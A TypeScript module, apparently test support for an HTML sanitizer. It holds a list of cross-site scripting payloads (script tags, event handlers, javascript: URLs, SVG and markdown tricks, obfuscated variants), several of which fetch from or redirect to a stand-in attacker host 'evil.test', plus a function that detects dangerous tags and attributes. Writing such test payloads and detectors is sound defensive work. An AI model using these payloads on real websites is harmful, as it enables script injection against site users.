import { Parser } from 'htmlparser2';

const SCRIPTS = ['alert(1)', 'fetch("//evil.test")', 'top.location="//evil.test"'];
/** Ways to turn text into markup, with something to run in each. */
export const MARKUP_PAYLOADS: readonly string[] = SCRIPTS.flatMap((run) => [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><a xlink:href="javascript:${run}">x</a></math>`,
  `<iframe srcdoc="<script>${run}</script>">`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="java\nscript:${run}">x</a>`,
  `<body onpageshow=${run}>`,
  `<details open ontoggle=${run}>`,
  `<style>@import "//evil.test/${run}"</style>`,
  `<link rel=stylesheet href="//evil.test">`,
  `<form action="//evil.test"><button>${run}</button></form>`,
  `<base href="//evil.test/"><!--${run}`,
  `</h3></article><template shadowrootmode=open><img src=x onerror=${run}>`,
  `![x](https://evil.test/?${run})`,
  `[x](javascript:${run})`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `{{constructor.constructor('${run}')()}}`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<x style="background:url(javascript:${run})">`,
  `\u202e<script>${run}</script>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<marquee onstart=${run}>`,
]);
/** Elements and attributes in which something could run or be loaded from outside. */
export function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (/^(?:script|iframe|object|embed|img|style|link|base|form|math|template)$/u.test(name))
        dangers.push(name);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (attribute.startsWith('on')) dangers.push(attribute);
        if (/^(?:href|src|srcdoc|action|xlink:href)$/u.test(attribute))
          if (!/^https?:\/\//u.test(value)) dangers.push(`${attribute}=${value}`);
      }
    },
  });
  parser.end(html);
  return dangers;
}
